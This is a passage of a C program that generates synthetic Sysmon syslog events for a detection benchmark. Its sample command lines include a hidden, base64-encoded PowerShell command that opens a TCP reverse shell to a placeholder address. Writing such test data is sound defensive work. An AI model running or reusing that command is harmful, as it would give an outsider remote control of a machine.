/*
 * hecsentry-gen: writes a file of framed syslog messages carrying Windows
 * Sysmon events, for the benchmark (SPEC 8).  Each message has an RFC 5424
 * header and one payload in one of the shapes of SPEC 2: Winlogbeat raw,
 * Winlogbeat with the sysmon module's ECS names, NXLog im_msvistalog
 * to_json(), flat Splunk-style JSON, or XmlWinEventLog XML.  Event ids 1,
 * 3, 5, 7, 10, 11, 12, 13 and 22 come in a fixed mix (26% network), with
 * field values modelled on the records in tests/data/.  A share of the
 * messages ("hits") are SMTP or FTP connections from user-writable paths
 * that the two shipped detections match; --keys bounds how many distinct
 * stats keys they use, --hit-hosts over how many sending hosts (key k
 * on host k % N, so that a balancer hashing the sender spreads them).
 * --mix library (gen_library.c) gives the mix of issue 13
 * instead, with hits that library detections match.  The output depends
 * only on the options and the seed.  It does not send anything: hecsentry-send does.
 */
/* Copyright 2026 The hecsentry developers.  SPDX-License-Identifier: ISC */

#include <err.h>
#include <getopt.h>
#include <limits.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "bench/gen.h"

#define GEN_MIN_SIZE	600		/* smallest frame we aim for */
#define GEN_MAX_SIZE	1900		/* largest frame we aim for */
#define GEN_NHOSTS	200		/* workstations sending non-hits */
#define GEN_KEYS_PER_HOST 16000		/* distinct source ports per host */
#define GEN_BASE_TIME	1795852800LL	/* 2026-11-28T08:00:00Z */
#define GEN_STEP_MS	10		/* mean gap between events */

enum gen_shape {
	GEN_SHAPE_WINLOGBEAT = 0,
	GEN_SHAPE_ECS,
	GEN_SHAPE_NXLOG,
	GEN_SHAPE_FLAT,
	GEN_SHAPE_XML,
	GEN_NSHAPES,
	GEN_SHAPE_MIX = GEN_NSHAPES
};

enum gen_framing {
	GEN_FRAMING_LF = 0,
	GEN_FRAMING_OCTET,
	GEN_FRAMING_MIX
};

/* A growable byte buffer. */
struct gen_buf {
	char		*p;
	size_t		 len;
	size_t		 cap;
};

struct gen_opts {
	unsigned long	 n;		/* events */
	enum gen_shape	 shape;
	enum gen_framing framing;
	double		 hits;		/* share of hit events */
	unsigned long	 keys;		/* distinct hit keys */
	uint64_t	 seed;
	const char	*out;		/* path, or NULL for stdout */
};

struct gen_summary {
	unsigned long	 events;
	unsigned long long bytes;
	size_t		 min, max;
	unsigned long	 by_id[32];
	unsigned long	 by_shape[GEN_NSHAPES];
	unsigned long	 hits_mail, hits_ftp;
	unsigned long	 hits_lib[32];	/* per library hit template */
	unsigned long	 out_of_range;	/* frames outside min..max size */
};

static uint64_t gen_rng;		/* splitmix64 state */
static int gen_short;			/* retrying a too-long event */
static unsigned gen_hit_hosts = 1;	/* hosts the hit keys are on */

static const char *const gen_shape_names[] = {
	"winlogbeat", "ecs", "nxlog", "flat", "xml", "mix"
};

/* Event ids and their weight in percent: 26% network as issue 4 found. */
static const struct gen_weight gen_mix[] = {
	{ 1, 12 }, { 3, 26 }, { 5, 8 }, { 7, 14 }, { 10, 10 }, { 11, 10 },
	{ 12, 7 }, { 13, 8 }, { 22, 5 }
};

/* Shape weights in percent for --shape mix. */
static const int gen_shape_weight[GEN_NSHAPES] = { 30, 15, 25, 10, 20 };

static const char *const gen_users[] = {
	"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
	"ivan", "judy", "mallory", "niaj", "olivia", "peggy", "rupert",
	"sybil", "trent", "victor", "walter", "yusuf", "zoe", "amir", "bea",
	"chen", "dmitri", "elena", "fatima", "goran", "hana", "ines"
};

/* Non-hit images: (path, 1 if under %USERPROFILE%). */
static const struct {
	const char	*path;
	int		 user;
} gen_images[] = {
	{ "C:\\Windows\\System32\\svchost.exe", 0 },
	{ "C:\\Windows\\explorer.exe", 0 },
	{ "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", 0 },
	{ "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
	    0 },
	{ "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
	    0 },
	{ "C:\\Program Files\\Mozilla Firefox\\firefox.exe", 0 },
	{ "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    0 },
	{ "C:\\Windows\\System32\\cmd.exe", 0 },
	{ "C:\\Windows\\System32\\conhost.exe", 0 },
	{ "C:\\Windows\\System32\\lsass.exe", 0 },
	{ "C:\\Windows\\System32\\SearchIndexer.exe", 0 },
	{ "C:\\Windows\\System32\\RuntimeBroker.exe", 0 },
	{ "C:\\Windows\\System32\\taskhostw.exe", 0 },
	{ "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", 0 },
	{ "C:\\Windows\\System32\\msiexec.exe", 0 },
	{ "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\"
	    "4.18.24090.11-0\\MsMpEng.exe", 0 },
	{ "C:\\Program Files\\Microsoft VS Code\\Code.exe", 0 },
	{ "AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", 1 },
	{ "AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", 1 },
	{ "AppData\\Local\\Programs\\slack\\slack.exe", 1 }
};

static const char *const gen_dlls[] = {
	"C:\\Windows\\System32\\ntdll.dll",
	"C:\\Windows\\System32\\kernel32.dll",
	"C:\\Windows\\System32\\KernelBase.dll",
	"C:\\Windows\\System32\\advapi32.dll",
	"C:\\Windows\\System32\\combase.dll",
	"C:\\Windows\\System32\\crypt32.dll",
	"C:\\Windows\\System32\\winhttp.dll",
	"C:\\Windows\\System32\\ws2_32.dll",
	"C:\\Windows\\System32\\amsi.dll",
	"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll",
	"C:\\Windows\\System32\\wbem\\wbemcomn.dll"
};

static const char *const gen_cmdlines[] = {
	"\"C:\\Windows\\System32\\cmd.exe\" /c ipconfig /all",
	"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
	"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" "
	    "--type=renderer --display-capture-permissions-policy-allowed "
	    "--lang=en-US --device-scale-factor=1 --num-raster-threads=4 "
	    "--enable-main-frame-before-activation --renderer-client-id=7 "
	    "--time-ticks-at-unix-epoch=-1732781200415231 "
	    "--launch-time-ticks=3921540731 --field-trial-handle=1884,i,"
	    "1042937460275081217,9312004218842212,262144 /prefetch:1",
	"powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "
	    "\"Get-ChildItem -Path C:\\ProgramData\\Corp\\Inventory -Filter "
	    "*.json | ForEach-Object { Invoke-RestMethod -Uri "
	    "https://inventory.corp.example/api/v2/upload -Method Post "
	    "-InFile $_.FullName -UseDefaultCredentials }\"",
	"powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUA"
	    "dwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0ALgBOAGUAdAAuAFMAbwBjAGsA"
	    "ZQB0AHMALgBUAEMAUABDAGwAaQBlAG4AdAAoACIAMQA5ADIALgAwAC4AMgAuADEA"
	    "MAAiACwANAA0ADMAKQA7ACQAcwB0AHIAZQBhAG0AIAA9ACAAJABjAGwAaQBlAG4A"
	    "dAAuAEcAZQB0AFMAdAByAGUAYQBtACgAKQA7AFsAYgB5AHQAZQBbAF0AXQAkAGIA"
	    "eQB0AGUAcwAgAD0AIAAwAC4ALgA2ADUANQAzADUAfAAlAHsAMAB9AA==",
	"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"",
	"C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
	"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" "
	    "/recycle",
	"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
	"\"C:\\Windows\\system32\\msiexec.exe\" /i "
	    "\"C:\\Users\\Public\\Downloads\\AgentInstaller-7.4.2.msi\" /qn "
	    "REBOOT=ReallySuppress /l*v C:\\Windows\\Temp\\agent-install.log"
};

static const char *const gen_web_hosts[] = {
	"login.microsoftonline.com", "outlook.office365.com",
	"settings-win.data.microsoft.com", "www.google.com",
	"clients4.google.com", "update.googleapis.com", "github.com",
	"edge.microsoft.com", "slack.com", "teams.microsoft.com",
	"ctldl.windowsupdate.com", "-"
};

static const char *const gen_words[] = {
	"genious", "yandex", "zoho", "privateemail", "mailhost", "webmail",
	"smtp-relay", "transfer", "files", "cloudsync", "backup", "updates"
};

static const char *const gen_tlds[] = {
	"net", "com", "org", "info", "xyz", "biz"
};

static const char *const gen_hit_dirs[] = {
	"AppData\\Roaming", "AppData\\Local\\Temp", "AppData\\Local",
	"Downloads", "AppData\\Roaming\\Microsoft"
};

static const char *const gen_hit_names[] = {
	"upd", "svchosts", "chrome_update", "invoice", "WinSvc", "tmp4A2B",
	"agent_tesla-deob", "snake", "RegAsm", "mailer"
};

static const char *const gen_titles[32] = {
	[1] = "Process Create",
	[3] = "Network connection detected",
	[5] = "Process terminated",
	[7] = "Image loaded",
	[10] = "Process accessed",
	[11] = "File created",
	[12] = "Registry object added or deleted",
	[13] = "Registry value set",
	[22] = "Dns query",
	[8] = "CreateRemoteThread detected",
	[17] = "Pipe Created",
	[18] = "Pipe Connected"
};

static const char *const gen_rules[32] = {
	[1] = "ProcessCreate", [3] = "NetworkConnect",
	[5] = "ProcessTerminate", [7] = "ImageLoad", [10] = "ProcessAccess",
	[11] = "FileCreate", [12] = "RegistryEvent", [13] = "RegistryEvent",
	[22] = "DnsQuery", [8] = "CreateRemoteThread", [17] = "PipeEvent",
	[18] = "PipeEvent"
};

static const int gen_versions[32] = {
	[1] = 5, [3] = 5, [5] = 3, [7] = 3, [10] = 3, [11] = 2, [12] = 2,
	[13] = 2, [22] = 5, [8] = 2, [17] = 1, [18] = 1
};

static void	usage(void) __attribute__((__noreturn__));

uint64_t
gen_rand(void)
{
	uint64_t	 z;

	z = (gen_rng += 0x9e3779b97f4a7c15ULL);
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

/* A hash of v alone, for values that must not depend on the stream. */
static uint64_t
gen_hash(uint64_t v)
{
	v += 0x9e3779b97f4a7c15ULL;
	v = (v ^ (v >> 30)) * 0xbf58476d1ce4e5b9ULL;
	v = (v ^ (v >> 27)) * 0x94d049bb133111ebULL;
	return v ^ (v >> 31);
}

unsigned
gen_below(unsigned n)
{
	return (unsigned)(gen_rand() % n);
}


static void
buf_grow(struct gen_buf *b, size_t need)
{
	size_t	 cap;

	if (b->len + need <= b->cap)
		return;
	cap = b->cap ? b->cap : 4096;
	while (cap < b->len + need)
		cap *= 2;
	if ((b->p = realloc(b->p, cap)) == NULL)
		err(1, "realloc");
	b->cap = cap;
}

static void
buf_add(struct gen_buf *b, const char *s, size_t n)
{
	buf_grow(b, n);
	memcpy(b->p + b->len, s, n);
	b->len += n;
}

static void
buf_adds(struct gen_buf *b, const char *s)
{
	buf_add(b, s, strlen(s));
}

static void __attribute__((__format__ (printf, 2, 3)))
buf_addf(struct gen_buf *b, const char *fmt, ...)
{
	va_list	 ap;
	int	 n;

	va_start(ap, fmt);
	n = vsnprintf(NULL, 0, fmt, ap);
	va_end(ap);
	if (n < 0)
		errx(1, "vsnprintf");
	buf_grow(b, (size_t)n + 1);
	va_start(ap, fmt);
	vsnprintf(b->p + b->len, (size_t)n + 1, fmt, ap);
	va_end(ap);
	b->len += (size_t)n;
}

/* Appends s as the inside of a JSON string. */
static void
buf_add_json(struct gen_buf *b, const char *s)
{
	for (; *s != '\0'; s++) {
		switch (*s) {
		case '"':
			buf_add(b, "\\\"", 2);
			break;
		case '\\':
			buf_add(b, "\\\\", 2);
			break;
		case '\r':
			buf_add(b, "\\r", 2);
			break;
		case '\n':
			buf_add(b, "\\n", 2);
			break;
		case '\t':
			buf_add(b, "\\t", 2);
			break;
		default:
			if ((unsigned char)*s < 0x20)
				buf_addf(b, "\\u%04x", (unsigned char)*s);
			else
				buf_add(b, s, 1);
		}
	}
}

/* Appends s as XML character data or an attribute value in quotes. */
static void
buf_add_xml(struct gen_buf *b, const char *s)
{
	for (; *s != '\0'; s++) {
		switch (*s) {
		case '&':
			buf_adds(b, "&amp;");
			break;
		case '<':
			buf_adds(b, "&lt;");
			break;
		case '>':
			buf_adds(b, "&gt;");
			break;
		case '\'':
			buf_adds(b, "&apos;");
			break;
		case '"':
			buf_adds(b, "&quot;");
			break;
		default:
			buf_add(b, s, 1);
		}
	}
}

/* "name":"value" with a leading comma unless first. */
static void
buf_add_jkv(struct gen_buf *b, int *first, const char *k, const char *v)
{
	if (!*first)
		buf_add(b, ",", 1);
	*first = 0;
	buf_add(b, "\"", 1);
	buf_adds(b, k);
	buf_add(b, "\":\"", 3);
	buf_add_json(b, v);
	buf_add(b, "\"", 1);
}

/* "name":raw (a number or a literal) with a leading comma unless first. */
static void
buf_add_jraw(struct gen_buf *b, int *first, const char *k, const char *raw)
{
	if (!*first)
		buf_add(b, ",", 1);
	*first = 0;
	buf_addf(b, "\"%s\":%s", k, raw);
}

/* Adds an EventData field; the value is formatted into the event. */
void
ev_add(struct gen_event *ev, const char *k, const char *fmt, ...)
{
	va_list	 ap;
	size_t	 room;
	int	 n;

	if (ev->nkv == GEN_MAX_KV)
		errx(1, "too many fields in event %d", ev->id);
	room = sizeof(ev->store) - ev->used;
	va_start(ap, fmt);
	n = vsnprintf(ev->store + ev->used, room, fmt, ap);
	va_end(ap);
	if (n < 0 || (size_t)n >= room)
		errx(1, "event %d: values too long", ev->id);
	ev->k[ev->nkv] = k;
	ev->v[ev->nkv] = ev->store + ev->used;
	ev->nkv++;
	ev->used += (size_t)n + 1;
}

static const char *
ev_get(const struct gen_event *ev, const char *k)
{
	int	 i;

	for (i = 0; i < ev->nkv; i++)
		if (strcmp(ev->k[i], k) == 0)
			return ev->v[i];
	return NULL;
}

/* Formats epoch ms as "2026-11-28 08:00:00.123" or ISO 8601 with Z. */
void
gen_time(int64_t ms, int iso, char *out, size_t outsz)
{
	struct tm	 tm;
	time_t		 t = (time_t)(ms / 1000);
	char		 s[32];

	gmtime_r(&t, &tm);
	strftime(s, sizeof(s), iso ? "%Y-%m-%dT%H:%M:%S" : "%Y-%m-%d %H:%M:%S",
	    &tm);
	snprintf(out, outsz, "%s.%03d%s", s, (int)(ms % 1000), iso ? "Z" : "");
}

void
gen_guid(char *out, size_t outsz)
{
	uint64_t	 a = gen_rand(), c = gen_rand();

	snprintf(out, outsz, "{%08X-%04X-%04X-%04X-%012llX}",
	    (unsigned)(a >> 32), (unsigned)(a >> 16) & 0xffff,
	    (unsigned)a & 0xffff, (unsigned)(c >> 48),
	    (unsigned long long)(c & 0xffffffffffffULL));
}

static void
gen_hex(char *out, size_t nhex)
{
	static const char	 digits[] = "0123456789ABCDEF";
	size_t			 i;
	uint64_t		 r = 0;

	for (i = 0; i < nhex; i++) {
		if (i % 16 == 0)
			r = gen_rand();
		out[i] = digits[r & 15];
		r >>= 4;
	}
	out[nhex] = '\0';
}

void
gen_hashes(struct gen_event *ev)
{
	char	 sha[65], imp[33];

	gen_hex(sha, 64);
	gen_hex(imp, 32);
	if (gen_short)
		ev_add(ev, "Hashes", "SHA256=%s", sha);
	else
		ev_add(ev, "Hashes", "SHA256=%s,IMPHASH=%s", sha, imp);
}

/* A non-hit image, with %USERPROFILE% expanded for user. */
void
gen_image(const char *user, char *out, size_t outsz)
{
	unsigned	 i = gen_below(GEN_NITEMS(gen_images));

	if (gen_images[i].user)
		snprintf(out, outsz, "C:\\Users\\%s\\%s", user,
		    gen_images[i].path);
	else
		snprintf(out, outsz, "%s", gen_images[i].path);
}

void
gen_public_ip(char *out, size_t outsz)
{
	static const char *const pfx[] = {
		"13.107", "20.190", "52.96", "142.250", "151.101", "104.16",
		"40.126", "185.199"
	};

	snprintf(out, outsz, "%s.%u.%u", GEN_PICK(pfx), gen_below(256),
	    1 + gen_below(254));
}

/* The fields every event starts with. */
void
gen_common(struct gen_event *ev, const char *image, const char *user,
    char *pguid, size_t pguidsz, unsigned *pid)
{
	char	 t[40];

	gen_time(ev->ms - 150 - gen_below(400), 0, t, sizeof(t));
	gen_guid(pguid, pguidsz);
	*pid = 200 + 4 * gen_below(4000);
	ev_add(ev, "RuleName", "%s", ev->id == 3 && gen_below(4) == 0 ?
	    "technique_id=T1071,technique_name=Application Layer Protocol" :
	    "-");
	ev_add(ev, "UtcTime", "%s", t);
	ev_add(ev, "ProcessGuid", "%s", pguid);
	ev_add(ev, "ProcessId", "%u", *pid);
	if (image != NULL)
		ev_add(ev, "Image", "%s", image);
	(void)user;
}

static void
gen_net(struct gen_event *ev, const char *user, const char *domuser,
    unsigned long nkeys, unsigned long hitno)
{
	char		 image[256], pguid[48], dip[48], dhost[128];
	const char	*proto = "tcp", *pname = "-", *shost, *name;
	unsigned	 pid, dport, sport, k, near;
	uint64_t	 h;
	int		 inbound = 0;

	near = gen_below(100);
	if (ev->hit) {
		/* One of nkeys keys: every by-field follows from k. */
		k = (unsigned)(hitno % nkeys);
		h = gen_hash(k);
		ev->hostno = gen_hit_hosts > 1 ? k % gen_hit_hosts :
		    k / GEN_KEYS_PER_HOST;
		snprintf(ev->computer, sizeof(ev->computer),
		    "ws-%04u.corp.example", ev->hostno);
		user = gen_users[h % GEN_NITEMS(gen_users)];
		name = gen_hit_names[(h >> 16) % GEN_NITEMS(gen_hit_names)];
		if (h >> 40 & 1)
			snprintf(image, sizeof(image),
			    "C:\\Users\\%s\\%s\\%s.exe", user,
			    gen_hit_dirs[(h >> 8) % GEN_NITEMS(gen_hit_dirs)],
			    name);
		else
			snprintf(image, sizeof(image), "C:\\Temp\\%s.exe",
			    name);
		snprintf(dhost, sizeof(dhost), "%s.%s%u.%s",
		    ev->hit == 1 ? "mail" : "ftp",
		    gen_words[(h >> 24) % GEN_NITEMS(gen_words)],
		    (unsigned)(h >> 32) % 100,
		    gen_tlds[(h >> 44) % GEN_NITEMS(gen_tlds)]);
		snprintf(dip, sizeof(dip), "41.77.%u.%u",
		    (unsigned)(h >> 48) & 0xff, 1 + (unsigned)(h >> 56) % 254);
		sport = 49152 + k / gen_hit_hosts % GEN_KEYS_PER_HOST;
		if (ev->hit == 2) {
			dport = 21;
			pname = "ftp";
		} else if ((h >> 41 & 1) != 0) {
			dport = 587;
			pname = "-";
		} else {
			dport = 25;
			pname = "smtp";
		}
		shost = ev->computer;
	} else if (near < 2) {
		/* Mail clients where they belong: not a hit. */
		snprintf(image, sizeof(image), "%s", near == 0 ?
		    "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
		    "OUTLOOK.EXE" :
		    "C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe");
		dport = 587;
		snprintf(dhost, sizeof(dhost), "smtp.office365.com");
		gen_public_ip(dip, sizeof(dip));
		sport = 49152 + gen_below(16384);
		shost = ev->computer;
	} else if (near == 2) {
		/* The system's own ftp.exe: not a hit either. */
		snprintf(image, sizeof(image),
		    "C:\\Windows\\System32\\ftp.exe");
		dport = 21;
		pname = "ftp";
		snprintf(dhost, sizeof(dhost), "ftp.corp.example");
		snprintf(dip, sizeof(dip), "10.1.%u.%u", gen_below(256),
		    1 + gen_below(254));
		sport = 49152 + gen_below(16384);
		shost = ev->computer;
	} else {
		static const struct {
			unsigned	 port;
			const char	*name;
			const char	*proto;
		} svc[] = {
			{ 443, "https", "tcp" }, { 443, "https", "tcp" },
			{ 443, "https", "tcp" }, { 443, "https", "tcp" },
			{ 80, "http", "tcp" }, { 53, "domain", "udp" },
			{ 135, "epmap", "tcp" },
			{ 445, "microsoft-ds", "tcp" },
			{ 389, "ldap", "tcp" }, { 88, "kerberos", "tcp" },
			{ 3389, "ms-wbt-server", "tcp" }, { 5985, "-", "tcp" },
			{ 8080, "-", "tcp" }, { 123, "ntp", "udp" }
		};
		unsigned	 s = gen_below(GEN_NITEMS(svc));

		gen_image(user, image, sizeof(image));
		dport = svc[s].port;
		pname = svc[s].name;
		proto = svc[s].proto;
		if (dport == 443 || dport == 80 || dport == 8080) {
			snprintf(dhost, sizeof(dhost), "%s",
			    GEN_PICK(gen_web_hosts));
			gen_public_ip(dip, sizeof(dip));
		} else {
			snprintf(dhost, sizeof(dhost), "dc%02u.corp.example",
			    1 + gen_below(4));
			snprintf(dip, sizeof(dip), "10.0.0.%u",
			    10 + gen_below(4));
		}
		sport = 49152 + gen_below(16384);
		inbound = dport == 135 || dport == 445 || dport == 3389 ||
		    dport == 5985 ? gen_below(2) : 0;
		shost = gen_below(3) == 0 ? "-" : ev->computer;
	}

	gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
	if (ev->hit)
		ev_add(ev, "User", "CORP\\%s", user);
	else
		ev_add(ev, "User", "%s", domuser);
	ev_add(ev, "Protocol", "%s", proto);
	ev_add(ev, "Initiated", "%s", inbound ? "false" : "true");
	ev_add(ev, "SourceIsIpv6", "false");
	ev_add(ev, "SourceIp", "10.20.%u.%u", ev->hostno / 250,
	    1 + ev->hostno % 250);
	ev_add(ev, "SourceHostname", "%s", shost);
	ev_add(ev, "SourcePort", "%u", sport);
	ev_add(ev, "SourcePortName", "-");
	ev_add(ev, "DestinationIsIpv6", "false");
	ev_add(ev, "DestinationIp", "%s", dip);
	ev_add(ev, "DestinationHostname", "%s", dhost);
	ev_add(ev, "DestinationPort", "%u", dport);
	ev_add(ev, "DestinationPortName", "%s", pname);
}

static void
gen_proc_create(struct gen_event *ev, const char *domuser, const char *user,
    int shorter)
{
	char		 image[256], pguid[48], ppguid[48], lguid[48];
	const char	*cmd;
	unsigned	 pid;

	gen_image(user, image, sizeof(image));
	if (shorter >= 2)
		snprintf(image, sizeof(image), "%s",
		    "C:\\Windows\\System32\\cmd.exe");
	gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
	ev_add(ev, "FileVersion", "10.0.19041.%u (WinBuild.160101.0800)",
	    1000 + gen_below(4000));
	ev_add(ev, "Description", "%s", "Windows Command Processor");
	ev_add(ev, "Product", "Microsoft\xc2\xae Windows\xc2\xae Operating "
	    "System");
	ev_add(ev, "Company", "Microsoft Corporation");
	ev_add(ev, "OriginalFileName", "%s", strrchr(image, '\\') + 1);
	cmd = shorter ? gen_cmdlines[shorter % 2] : GEN_PICK(gen_cmdlines);
	ev_add(ev, "CommandLine", "%s", cmd);
	ev_add(ev, "CurrentDirectory", "C:\\Users\\%s\\", user);
	ev_add(ev, "User", "%s", domuser);
	gen_guid(lguid, sizeof(lguid));
	ev_add(ev, "LogonGuid", "%s", lguid);
	ev_add(ev, "LogonId", "0x%X", 0x10000 + gen_below(0xfffff));
	ev_add(ev, "TerminalSessionId", "%u", gen_below(3));
	ev_add(ev, "IntegrityLevel", "%s", gen_below(4) ? "Medium" : "High");
	gen_hashes(ev);
	gen_guid(ppguid, sizeof(ppguid));
	ev_add(ev, "ParentProcessGuid", "%s", ppguid);
	ev_add(ev, "ParentProcessId", "%u", 200 + 4 * gen_below(4000));
	ev_add(ev, "ParentImage", "C:\\Windows\\explorer.exe");
	ev_add(ev, "ParentCommandLine", "C:\\Windows\\Explorer.EXE");
	if (shorter < 2)	/* Sysmon before 13.30 has no ParentUser */
		ev_add(ev, "ParentUser", "%s", domuser);
}

static void
gen_image_load(struct gen_event *ev, const char *domuser, const char *user)
{
	char		 image[256], pguid[48];
	const char	*dll;
	unsigned	 pid;

	gen_image(user, image, sizeof(image));
	if (gen_library)
		snprintf(image, sizeof(image), "%s", gen_lib_system_image());
	gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
	dll = GEN_PICK(gen_dlls);
	ev_add(ev, "ImageLoaded", "%s", dll);
	ev_add(ev, "FileVersion", "10.0.19041.%u (WinBuild.160101.0800)",
	    1000 + gen_below(4000));
	ev_add(ev, "Description", "%s", "Windows NT BASE API Client DLL");
	ev_add(ev, "Product", "Microsoft\xc2\xae Windows\xc2\xae Operating "
	    "System");
	ev_add(ev, "Company", "Microsoft Corporation");
	ev_add(ev, "OriginalFileName", "%s", strrchr(dll, '\\') + 1);
	gen_hashes(ev);
	ev_add(ev, "Signed", "true");
	ev_add(ev, "Signature", "Microsoft Windows");
	ev_add(ev, "SignatureStatus", "Valid");
	ev_add(ev, "User", "%s", domuser);
}

static void
gen_proc_access(struct gen_event *ev, const char *domuser, const char *user)
{
	static const char *const access[] = {
		"0x1000", "0x1410", "0x1FFFFF", "0x101000", "0x40"
	};
	char		 image[256], sguid[48], tguid[48], t[40];
	struct gen_buf	 trace = { NULL, 0, 0 };
	unsigned	 i, n;

	gen_image(user, image, sizeof(image));
	gen_time(ev->ms - 150 - gen_below(400), 0, t, sizeof(t));
	gen_guid(sguid, sizeof(sguid));
	gen_guid(tguid, sizeof(tguid));
	ev_add(ev, "RuleName", "-");
	ev_add(ev, "UtcTime", "%s", t);
	ev_add(ev, "SourceProcessGUID", "%s", sguid);
	ev_add(ev, "SourceProcessId", "%u", 200 + 4 * gen_below(4000));
	ev_add(ev, "SourceThreadId", "%u", 200 + 4 * gen_below(4000));
	ev_add(ev, "SourceImage", "%s", image);
	ev_add(ev, "TargetProcessGUID", "%s", tguid);
	ev_add(ev, "TargetProcessId", "%u", 200 + 4 * gen_below(4000));
	ev_add(ev, "TargetImage", "%s", gen_library ?
	    gen_lib_access_target() : "C:\\Windows\\system32\\lsass.exe");
	ev_add(ev, "GrantedAccess", "%s", gen_library ?
	    gen_lib_access_rights() : GEN_PICK(access));
	n = gen_short ? 2 : 3 + gen_below(3);
	for (i = 0; i < n; i++)
		buf_addf(&trace, "%s%s+%x", i ? "|" : "",
		    i == 0 ? "C:\\Windows\\SYSTEM32\\ntdll.dll" :
		    GEN_PICK(gen_dlls), 0x1000 + gen_below(0xfffff));
	buf_add(&trace, "", 1);
	ev_add(ev, "CallTrace", "%s", trace.p);
	free(trace.p);
	ev_add(ev, "SourceUser", "%s", domuser);
	ev_add(ev, "TargetUser", "NT AUTHORITY\\SYSTEM");
}

static void
gen_file_create(struct gen_event *ev, const char *domuser, const char *user)
{
	static const struct {
		const char	*pre;
		const char	*suf;
	} files[] = {
		{ "AppData\\Local\\Temp\\__PSScriptPolicyTest_", ".psm1" },
		{ "AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\",
		    ".tmp" },
		{ "Downloads\\report-", ".xlsx" },
		{ "AppData\\Roaming\\Microsoft\\Windows\\Recent\\", ".lnk" }
	};
	unsigned	 f;
	char		 image[256], pguid[48], name[160], t[40];
	unsigned	 pid;

	gen_image(user, image, sizeof(image));
	gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
	f = gen_below(GEN_NITEMS(files));
	snprintf(name, sizeof(name), "%s%08x%s", files[f].pre,
	    (unsigned)gen_rand(), files[f].suf);
	ev_add(ev, "TargetFilename", "C:\\Users\\%s\\%s", user, name);
	gen_time(ev->ms - 2000 - gen_below(100000), 0, t, sizeof(t));
	ev_add(ev, "CreationUtcTime", "%s", t);
	ev_add(ev, "User", "%s", domuser);
}

static void
gen_registry(struct gen_event *ev, const char *domuser, const char *user)
{
	static const struct {
		const char	*pre;
		const char	*suf;
	} keys[] = {
		{ "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\"
		    "UserSettings\\S-1-5-21-3623811015-3361044348-30300820-",
		    "\\\\Device\\HarddiskVolume3\\Windows\\System32\\"
		    "notepad.exe" },
		{ "HKU\\S-1-5-21-3623811015-3361044348-30300820-",
		    "\\Software\\Microsoft\\Windows\\CurrentVersion\\"
		    "Explorer\\RecentDocs\\.docx" },
		{ "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\"
		    "Schedule\\TaskCache\\Tree\\Microsoft\\Windows\\"
		    "UpdateOrchestrator\\Schedule Scan ", "" }
	};
	unsigned	 r;
	char		 image[256], pguid[48], key[320];
	unsigned	 pid;

	gen_image(user, image, sizeof(image));
	ev_add(ev, "EventType", "%s", ev->id == 13 ? "SetValue" :
	    (gen_below(3) ? "CreateKey" : "DeleteKey"));
	gen_common(ev, image, user, pguid, sizeof(pguid), &pid);
	r = gen_below(GEN_NITEMS(keys));
	snprintf(key, sizeof(key), "%s%u%s", keys[r].pre,
	    1000 + gen_below(500), keys[r].suf);
	ev_add(ev, "TargetObject", "%s", key);
	if (ev->id == 13)
		ev_add(ev, "Details", "QWORD (0x%08x-0x%08x)",
		    (unsigned)gen_rand(), (unsigned)gen_rand());
	ev_add(ev, "User", "%s", domuser);
}

static void
gen_dns(struct gen_event *ev, const char *domuser, const char *user)
{
	char		 image[256], pguid[48], ip1[48], ip2[48];
	const char	*q;
	unsigned	 pid;

	gen_image(user, image, sizeof(image));
	gen_common(ev, NULL, user, pguid, sizeof(pguid), &pid);
	do {
		q = GEN_PICK(gen_web_hosts);
	} while (strcmp(q, "-") == 0);
	ev_add(ev, "QueryName", "%s", q);
	ev_add(ev, "QueryStatus", "0");
	gen_public_ip(ip1, sizeof(ip1));
	gen_public_ip(ip2, sizeof(ip2));
	ev_add(ev, "QueryResults", "type:  5 %s.edgekey.net;type:  5 "
	    "e%u.dscb.akamaiedge.net;::ffff:%s;::ffff:%s;", q,
	    gen_below(30000), ip1, ip2);
	ev_add(ev, "Image", "%s", image);
	ev_add(ev, "User", "%s", domuser);
}

/*
 * Fills ev with event number i of the stream.  hitno counts hits so far;
 * shorter asks for the shortest variants (after a too-long rendering).
 */
static void
gen_event_fill(struct gen_event *ev, int id, int hit, unsigned long nkeys,
    unsigned long hitno, int shorter)
{
	char		 domuser[96], image[256], pguid[48];
	const char	*user;
	unsigned	 host, pid;

	ev->id = id;
	ev->hit = hit;
	ev->nkv = 0;
	ev->used = 0;
	host = gen_below(GEN_NHOSTS);
	ev->hostno = host;
